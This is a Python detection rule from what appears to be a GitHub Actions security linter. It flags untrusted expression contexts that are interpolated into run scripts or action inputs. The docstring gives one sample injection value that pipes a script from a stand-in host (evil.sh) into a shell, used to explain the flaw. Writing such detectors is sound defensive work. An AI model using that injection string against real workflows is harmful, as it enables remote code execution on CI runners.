"""
Rule: Detect script injection via GitHub expression contexts.

The runner substitutes ${{ ... }} into a 'run:' script (or an action input
such as actions/github-script's 'script') before anything executes, so an
issue title like `"; curl evil.sh | sh; echo "` becomes shell code.
Assigning the expression to an env var and reading "$VAR" in the script is
safe: the shell receives the value as data.
"""

import logging
from typing import Optional

from gha_taint.parser.workflow_parser import WorkflowDocument, Step, StepKind
from gha_taint.rules.contexts import (
    EXPRESSION_PATTERN,
    context_references,
    find_expressions,
    is_untrusted,
    normalize_context_path,
)
from gha_taint.rules.engine import register_rule, ScriptInjection

logger = logging.getLogger(__name__)


def _injection_sinks(step: Step) -> list[tuple[str, str]]:
    """(sink name, text) pairs the runner interpolates into executed code."""
    if step.kind is StepKind.RUN:
        return [("run", step.run or "")]
    if step.is_checkout:
        # checkout inputs are handed to git as data; untrusted_checkout owns them
        return []
    return [(f"with.{name}", value) for name, value in step.with_args.items()]


def untrusted_reference(expression: str, env: dict[str, str]) -> Optional[str]:
    """
    The first untrusted context path an expression body expands to, or None.

    ``env.NAME`` is resolved one level through the merged env mapping, since
    ``${{ env.NAME }}`` is substituted into the script just like the value
    it was assigned from.
    """
    env_by_name = {name.lower(): value for name, value in env.items()}
    for ref in context_references(expression):
        if is_untrusted(ref):
            return ref
        segments = normalize_context_path(ref)
        if len(segments) != 2 or segments[0] != "env":
            continue
        value = env_by_name.get(segments[1])
        if value is None:
            continue
        for inner in find_expressions(value):
            for inner_ref in context_references(inner):
                if is_untrusted(inner_ref):
                    logger.debug("'%s' resolves to untrusted '%s'", ref, inner_ref)
                    return inner_ref
    return None


@register_rule
def check_script_injection(doc: WorkflowDocument) -> list[ScriptInjection]:
    findings = []
    for job in doc.jobs:
        for step in job.steps:
            env = doc.effective_env(job, step)
            seen: set[str] = set()
            for sink, text in _injection_sinks(step):
                for match in EXPRESSION_PATTERN.finditer(text):
                    expression = " ".join(match.group(1).split())
                    if expression in seen:
                        continue
                    context = untrusted_reference(expression, env)
                    if context is None:
                        continue
                    seen.add(expression)
                    findings.append(ScriptInjection(
                        file_path=doc.file_path,
                        job_id=job.job_id,
                        step_index=step.index,
                        step_name=step.label,
                        expression=expression,
                        line_number=step.line_number,
                        context=context,
                        sink=sink,
                    ))
    return findings
